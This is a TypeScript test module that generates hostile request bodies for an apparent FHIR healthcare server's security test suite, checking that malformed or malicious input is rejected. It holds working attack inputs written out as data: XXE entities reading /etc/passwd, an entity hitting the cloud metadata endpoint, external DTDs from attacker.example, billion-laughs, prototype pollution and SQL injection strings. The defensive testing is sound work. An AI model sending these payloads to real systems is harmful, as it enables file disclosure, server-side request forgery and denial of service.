// Request bodies for the hostile corpus: a valid base document per route (so that a hostile variant
// differs from something the route accepts in one way only), and the hostile variants per body kind.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { BodyKind, RouteDef } from '../../../src/http/types.ts';
import { OID } from '../../../src/fhir/identifiers.ts';
import { PERSONAS } from '../../../src/demo/personas.ts';
import { TEXT_PAYLOADS } from './payloads.ts';

const FIXTURES = fileURLToPath(new URL('../../fixtures/', import.meta.url));
const HOSTILE_FIXTURES = fileURLToPath(new URL('../fixtures/', import.meta.url));
const fixture = (path: string): Buffer => readFileSync(FIXTURES + path);

export const MEDIA: Record<BodyKind, string> = {
  json: 'application/fhir+json',
  xml: 'application/xml',
  form: 'application/x-www-form-urlencoded',
};

export interface BodyVariant {
  name: string;
  body: Buffer;
  contentType: string;
  /** reject: must be a 4xx OperationOutcome. survive: a 2xx is allowed (the content may be legitimate). */
  expect: 'reject' | 'survive';
  /** Strings the body carries that an answer may quote back (removed before looking for leaks). */
  payloads: string[];
}

const identifierParameters = (): string =>
  JSON.stringify({
    resourceType: 'Parameters',
    parameter: [{ name: 'identifier', valueIdentifier: { system: OID.fnr, value: PERSONAS.ms.fnr } }],
  });

const codeParameters = (system: string, code: string): string =>
  JSON.stringify({
    resourceType: 'Parameters',
    parameter: [
      { name: 'system', valueUri: system },
      { name: 'code', valueCode: code },
    ],
  });

/** A document the route would take, chosen by what the route says it is for. */
export function validBase(route: RouteDef, kind: BodyKind): Buffer {
  const p = route.path;
  if (kind === 'json') {
    if (route.resourceType === 'MedicationDispense' && !route.operation) return fixture('edispensation/no-addison-de-mpd-dispense.json');
    if (route.resourceType === 'Bundle' && !route.operation) return fixture('edispensation/Bundle-mpd-400-cefuroxime-scenario.converted.json');
    if (route.operation?.name === 'lookup') return Buffer.from(codeParameters('http://www.whocc.no/atc', 'H02AB09'));
    if (route.operation && ['validate-code', 'translate'].includes(route.operation.name)) return Buffer.from(codeParameters('http://www.whocc.no/atc', 'L04AG03'));
    return Buffer.from(identifierParameters());
  }
  if (kind === 'xml') {
    if (/m10/i.test(p)) return fixture('m10/sample-ekspedering-utlevering.xml');
    if (/cda/i.test(p) && route.resourceType === 'MedicationRequest') return fixture('edispensation/eP-L3-lantus-W8.openncp.xml');
    if (/cda/i.test(p)) return fixture('edispensation/no-addison-cz-substituted.xml');
    return fixture('m1/valid/01-pakning-hydrokortison.xml');
  }
  return Buffer.from(`identifier=${encodeURIComponent(`${OID.fnr}|${PERSONAS.ms.fnr}`)}`);
}

const v = (name: string, body: string | Buffer, contentType: string, expect: BodyVariant['expect'] = 'reject', payloads: string[] = []): BodyVariant => ({
  name,
  body: typeof body === 'string' ? Buffer.from(body, 'utf8') : body,
  contentType,
  expect,
  payloads,
});

function deepJson(depth: number): string {
  return `{"resourceType":"Parameters","parameter":[{"name":"x","part":${'['.repeat(depth)}${']'.repeat(depth)}}]}`;
}

function deepParts(depth: number): string {
  let part = '{"name":"leaf","valueString":"x"}';
  for (let i = 0; i < depth; i++) part = `{"name":"p","part":[${part}]}`;
  return `{"resourceType":"Parameters","parameter":[${part}]}`;
}

/** Every string leaf of a JSON value, as paths. */
function stringLeaves(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value)) return value.flatMap((x, i) => stringLeaves(x, [...path, i]));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, x]) => stringLeaves(x, [...path, k]));
  return [];
}

function numberLeaves(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof value === 'number') return [path];
  if (Array.isArray(value)) return value.flatMap((x, i) => numberLeaves(x, [...path, i]));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, x]) => numberLeaves(x, [...path, k]));
  return [];
}

/** Larger than any integer a field holds (int32, int64 and a double's exact range alike). */
const HUGE = '123456789012345678901234567890';
/** Integers just past FHIR's integer type (int32), far past everything, and below zero. */
const OUT_OF_RANGE = ['2147483648', HUGE, '-1'];

function setAt(value: unknown, path: (string | number)[], to: string): unknown {
  const copy = structuredClone(value) as Record<string | number, unknown>;
  let at: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path[path.length - 1]!] = to;
  return copy;
}

export function jsonVariants(route: RouteDef, limit: number): BodyVariant[] {
  const ct = MEDIA.json;
  const base = validBase(route, 'json');
  const baseText = base.toString('utf8');
  const doc = JSON.parse(baseText) as unknown;
  const out: BodyVariant[] = [
    v('malformed JSON: unclosed object', '{"resourceType":"Parameters"', ct),
    v('malformed JSON: single quotes', "{'resourceType':'Parameters'}", ct),
    v('malformed JSON: trailing garbage', `${baseText}}}garbage`, ct),
    v('malformed JSON: NaN literal', '{"resourceType":"Parameters","parameter":[{"name":"n","valueDecimal":NaN}]}', ct),
    v('malformed JSON: comment', '/* hi */ {"resourceType":"Parameters"}', ct),
    v('truncated document', baseText.slice(0, Math.floor(baseText.length / 2)), ct),
    // An operation may be POSTed without a body when it needs no parameters (an instance-level $summary).
    v('empty body', '', ct, route.interaction === 'operation' ? 'survive' : 'reject'),
    v('whitespace only', '   \n\t  ', ct),
    v('JSON null', 'null', ct),
    v('JSON array', '[]', ct),
    v('JSON string', '"Parameters"', ct),
    v('JSON number', '1e999', ct),
    v('object without resourceType', '{"parameter":[]}', ct),
    v('prototype pollution: __proto__', '{"resourceType":"Parameters","__proto__":{"polluted":true}}', ct),
    v('prototype pollution: nested __proto__', '{"resourceType":"Parameters","parameter":[{"name":"x","__proto__":{"isAdmin":true}}]}', ct),
    v('prototype pollution: constructor.prototype', '{"resourceType":"Parameters","constructor":{"prototype":{"polluted":true}}}', ct),
    v('prototype pollution: escaped __proto__ key', '{"resourceType":"Parameters","\\u005f\\u005fproto\\u005f\\u005f":{"polluted":true}}', ct),
    v('wrong resource type: Observation', '{"resourceType":"Observation","status":"final","code":{"text":"x"}}', ct),
    v('wrong resource type: Appointment', '{"resourceType":"Appointment","status":"booked","participant":[]}', ct),
    v('wrong resource type: OperationOutcome', '{"resourceType":"OperationOutcome","issue":[]}', ct),
    v('unknown resource type', '{"resourceType":"Evil<script>","id":"x"}', ct, 'reject', ['Evil<script>']),
    v('resourceType is an object', '{"resourceType":{"$gt":""}}', ct),
    v('deep nesting: 100,000 arrays', deepJson(100_000), ct),
    v('deep nesting: 5,000 Parameters parts', deepParts(5_000), ct),
    v('huge body over the JSON limit (3 MB)', `{"resourceType":"Parameters","parameter":[{"name":"x","valueString":"${'a'.repeat(3 * 1024 * 1024)}"}]}`, ct),
    v('huge body over the raw limit (6 MB)', `{"resourceType":"Parameters","parameter":[{"name":"x","valueString":"${'a'.repeat(6 * 1024 * 1024)}"}]}`, ct),
    v('invalid UTF-8 bytes in a string', Buffer.concat([Buffer.from('{"resourceType":"Parameters","parameter":[{"name":"'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}]}')]), ct),
    v('latin1 bytes declared as UTF-8', Buffer.from('{"resourceType":"Parameters","parameter":[{"name":"Bjørn"}]}', 'latin1'), `${ct}; charset=utf-8`),
    v('UTF-16LE with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(baseText, 'utf16le')]), ct),
    v('UTF-16 declared in the charset', Buffer.from(baseText, 'utf16le'), `${ct}; charset=utf-16`),
    v('charset=iso-8859-1', base, `${ct}; charset=iso-8859-1`),
    v('unpaired surrogate escape', '{"resourceType":"Parameters","parameter":[{"name":"\\ud800"}]}', ct),
    // The route's own valid body with one lone surrogate: it must be refused before anything is stored.
    v('unpaired surrogate in the valid body', JSON.stringify(setAt(doc, stringLeaves(doc).find((l) => l.at(-1) === 'family') ?? stringLeaves(doc).at(-1) ?? ['resourceType'], 'Eng\udc00ine')), ct),
    v('huge string within the limit (1 MB)', `{"resourceType":"Parameters","parameter":[{"name":"identifier","valueString":"${'9'.repeat(1024 * 1024)}"}]}`, ct, 'survive'),
    v('many keys (50,000)', `{"resourceType":"Parameters",${Array.from({ length: 50_000 }, (_, i) => `"k${i}":1`).join(',')}}`, ct),
    v('duplicate keys', '{"resourceType":"Parameters","resourceType":"Patient","id":"ms"}', ct),
    v('JSON sent as XML', baseText, MEDIA.xml),
  ];
  // Every text field with a hostile string: all fields at once per string, then one field at a time.
  for (const p of TEXT_PAYLOADS) {
    let all: unknown = doc;
    for (const leaf of stringLeaves(doc)) all = setAt(all, leaf, p.value);
    out.push(v(`every text field: ${p.name}`, JSON.stringify(all), ct, 'survive', [p.value]));
  }
  for (const leaf of numberLeaves(doc)) {
    out.push(v(`number ${leaf.join('.')}: ${HUGE}`, JSON.stringify(setAt(doc, leaf, HUGE)).replace(`"${HUGE}"`, HUGE), ct, 'survive', [HUGE]));
    out.push(v(`number ${leaf.join('.')}: -1e308`, JSON.stringify(setAt(doc, leaf, '-1e308')).replace('"-1e308"', '-1e308'), ct, 'survive'));
  }
  const leaves = stringLeaves(doc).slice(0, limit);
  leaves.forEach((leaf, i) => {
    const p = TEXT_PAYLOADS[i % TEXT_PAYLOADS.length]!;
    out.push(v(`text field ${leaf.join('.')}: ${p.name}`, JSON.stringify(setAt(doc, leaf, p.value)), ct, 'survive', [p.value]));
  });
  return out;
}

const xmlEscape = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** Positions of element text (non-blank) in an XML document, as [start, end) offsets. */
function textNodes(xml: string): [number, number][] {
  const out: [number, number][] = [];
  for (const m of xml.matchAll(/>([^<]+)</g)) {
    if (!m[1]!.trim()) continue;
    const start = m.index + 1;
    out.push([start, start + m[1]!.length]);
  }
  return out;
}

const HOSTILE_XML_FILES = [
  'billion-laughs.xml',
  'doctype-ekstern-dtd.xml',
  'doctype-smaa-bokstaver.xml',
  'doctype-uskyldig.xml',
  'entity-uten-doctype.xml',
  'html-entity.xml',
  'innhold-etter-rot.xml',
  'kontrolltegn.xml',
  'tegnreferanse-nul.xml',
  'xxe-fil.xml',
  'xxe-http.xml',
];

export function xmlVariants(route: RouteDef, limit: number): BodyVariant[] {
  const ct = MEDIA.xml;
  const base = validBase(route, 'xml');
  const xml = base.toString('utf8');
  const rootStart = xml.indexOf('<', xml.startsWith('<?xml') ? xml.indexOf('?>') : 0);
  const firstText = textNodes(xml)[0];
  /** The same document with its first text replaced by `text` (an entity reference, a control character ...). */
  const withText = (text: string): string => (firstText ? xml.slice(0, firstText[0]) + text + xml.slice(firstText[1]) : xml);
  /** The same document with a DOCTYPE before its root element and, optionally, an entity used in its first text. */
  const withDoctype = (doctype: string, ref?: string): string => {
    const doc = ref ? withText(ref) : xml;
    return `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n${doc.slice(rootStart)}`;
  };
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('');
  const out: BodyVariant[] = [
    v('not XML at all', 'hello, world', ct),
    v('empty body', '', ct),
    v('unclosed root', '<MsgHead xmlns="http://www.kith.no/xmlstds/msghead/2006-05-24">', ct),
    v('mismatched tags', '<a><b></a></b>', ct),
    v('truncated document', xml.slice(0, Math.floor(xml.length / 2)), ct),
    v('truncated inside a tag', xml.slice(0, xml.indexOf('<', rootStart + 10) + 3), ct),
    v('two roots', `${xml}\n<again/>`, ct),
    v('wrong document: a FHIR resource as XML', '<Patient xmlns="http://hl7.org/fhir"><id value="ms"/></Patient>', ct),
    v('wrong document: SOAP envelope', '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>', ct),
    v('billion laughs (nested internal entities)', withDoctype(`<!DOCTYPE r [<!ENTITY lol "lol">${laughs}]>`, '&lol9;'), ct),
    v('quadratic blow-up (one big entity used many times)', withDoctype(`<!DOCTYPE r [<!ENTITY big "${'x'.repeat(50_000)}">]>`, '&big;'.repeat(10_000)), ct),
    v('XXE: file:///etc/passwd', withDoctype('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'), ct),
    v('XXE: http to a metadata endpoint', withDoctype('<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>', '&xxe;'), ct),
    v('XXE: parameter entity with external DTD', withDoctype('<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]>'), ct),
    v('external DTD by PUBLIC id', withDoctype('<!DOCTYPE r PUBLIC "-//X//EN" "http://attacker.example/x.dtd">'), ct),
    v('XInclude of /etc/passwd', xml.replace(/(<[A-Za-z][^>]*?)(\/?)>/, '$1$2><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), ct, 'survive', ['file:///etc/passwd']),
    v('undeclared entity reference', withText('&nbsp;'), ct),
    v('character reference to NUL', withText('&#0;'), ct),
    v('deep nesting (10,000 elements)', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`, ct),
    v('deep nesting inside the document', xml.replace(/(<\/[^>]+>\s*)$/, `${'<x>'.repeat(2_000)}${'</x>'.repeat(2_000)}$1`), ct),
    v('huge body over the XML limit (6 MB)', `${xml.slice(0, rootStart)}<!--${'x'.repeat(6 * 1024 * 1024)}-->${xml.slice(rootStart)}`, ct),
    v('UTF-16LE with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml.replace(/encoding="[^"]*"/i, 'encoding="UTF-16"'), 'utf16le')]), ct),
    v('UTF-16 declared in the charset', Buffer.from(xml, 'utf16le'), `${ct}; charset=utf-16`),
    v('latin1 bytes declared as UTF-8', Buffer.from(xml.replace(/encoding="[^"]*"/i, 'encoding="UTF-8"').replace(/>[^<\s][^<]*</, '>Bjørn Ærlig<'), 'latin1'), ct),
    v('invalid UTF-8 bytes in text', Buffer.concat([Buffer.from(xml.slice(0, firstText?.[0] ?? 0)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(xml.slice(firstText?.[1] ?? 0))]), ct),
    v('unsupported declared encoding (EBCDIC)', xml.replace(/encoding="[^"]*"/i, 'encoding="EBCDIC-CP-US"'), ct),
    v('charset=iso-8859-1 in Content-Type', base, `${ct}; charset=iso-8859-1`),
    v('control characters in text', withText('a\u0001b\u001bc'), ct),
    v('processing instruction smuggling', xml.replace(/(<[A-Za-z])/, '<?xml-stylesheet href="file:///etc/passwd"?>$1'), ct, 'survive', ['file:///etc/passwd']),
    v('CDATA with markup', withText('<![CDATA[<script>alert(1)</script>]]>'), ct, 'survive', ['<script>alert(1)</script>']),
    v('XML sent as JSON', xml, MEDIA.json),
    v('namespace bomb (5,000 declarations on the root)', xml.slice(0, rootStart) + xml.slice(rootStart).replace(/^<([A-Za-z:]+)/, (m) => `${m} ${Array.from({ length: 5_000 }, (_, i) => `xmlns:n${i}="urn:x:${i}"`).join(' ')}`), ct),
    v('attribute bomb (10,000 attributes)', xml.slice(0, rootStart) + xml.slice(rootStart).replace(/^<([A-Za-z:]+)/, (m) => `${m} ${Array.from({ length: 10_000 }, (_, i) => `a${i}="x"`).join(' ')}`), ct),
    v('element name of 1 MB', `<${'a'.repeat(1024 * 1024)}/>`, ct),
    // Kept at 200,000: a million (4 MB, under the size limit) is refused too, after seconds of parsing.
    v('200,000 empty siblings', `<r>${'<a/>'.repeat(200_000)}</r>`, ct),
  ];
  for (const file of HOSTILE_XML_FILES) out.push(v(`fixture m1/hostile/${file}`, fixture(`m1/hostile/${file}`), ct));
  for (const file of hostileFixtureFiles()) out.push(v(`fixture hostile/${file}`, readFileSync(HOSTILE_FIXTURES + file), ct));
  // Hostile strings as text (escaped, so the document stays well-formed): all at once per string,
  // one text node at a time, and in every attribute value.
  const nodes = textNodes(xml);
  const replaceNodes = (which: [number, number][], to: string): string => {
    let s = xml;
    for (const [a, b] of [...which].reverse()) s = s.slice(0, a) + to + s.slice(b);
    return s;
  };
  for (const p of TEXT_PAYLOADS) {
    out.push(v(`every text node: ${p.name}`, replaceNodes(nodes, xmlEscape(p.value)), ct, 'survive', [p.value]));
    out.push(v(`every attribute value: ${p.name}`, xml.replace(/(\s[A-Za-z:]+=")([^"]*)(")/g, (m, a: string, _v: string, c: string) => (a.includes('xmlns') ? m : a + xmlEscape(p.value) + c)), ct, 'survive', [p.value]));
  }
  // Numbers out of every range a field could have: each integer text, one at a time.
  const numeric = nodes.filter(([a, b]) => /^\s*-?\d{1,9}\s*$/.test(xml.slice(a, b)));
  for (const [i, node] of numeric.entries()) {
    const element = /<([A-Za-z:]+)[^<]*$/.exec(xml.slice(0, node[0]))?.[1] ?? '?';
    for (const n of OUT_OF_RANGE) out.push(v(`number in <${element}> #${i + 1}: ${n}`, replaceNodes([node], n), ct, 'survive', [n]));
  }
  nodes.slice(0, limit).forEach((node, i) => {
    const p = TEXT_PAYLOADS[i % TEXT_PAYLOADS.length]!;
    const element = /<([A-Za-z:]+)[^<]*$/.exec(xml.slice(0, node[0]))?.[1] ?? '?';
    out.push(v(`text of <${element}> #${i + 1}: ${p.name}`, replaceNodes([node], xmlEscape(p.value)), ct, 'survive', [p.value]));
  });
  return out;
}

export function formVariants(): BodyVariant[] {
  const ct = MEDIA.form;
  return [
    v('malformed percent-encoding', 'identifier=%ZZ%', ct, 'survive'),
    v('SQL injection in identifier', `identifier=${encodeURIComponent(`${OID.fnr}|' OR '1'='1`)}`, ct, 'survive', [`' OR '1'='1`]),
    v('prototype pollution keys', '__proto__[polluted]=1&constructor[prototype][polluted]=1', ct),
    v('unknown parameters', 'evil=1&_sort=;drop', ct),
    v('null bytes', 'identifier=%00%00', ct, 'survive'),
    v('huge form over the limit (6 MB)', `identifier=${'1'.repeat(6 * 1024 * 1024)}`, ct),
    v('invalid UTF-8 bytes', Buffer.concat([Buffer.from('identifier='), Buffer.from([0xff, 0xfe])]), ct),
    v('form declared UTF-16', Buffer.from('identifier=1', 'utf16le'), `${ct}; charset=utf-16`),
    v('form sent as JSON', 'identifier=1', MEDIA.json),
  ];
}

/** Hand-written hostile documents kept beside this suite (test/hostile/fixtures/*.xml). */
function hostileFixtureFiles(): string[] {
  return existsSync(HOSTILE_FIXTURES) ? readdirSync(HOSTILE_FIXTURES).filter((f) => f.endsWith('.xml')).sort() : [];
}
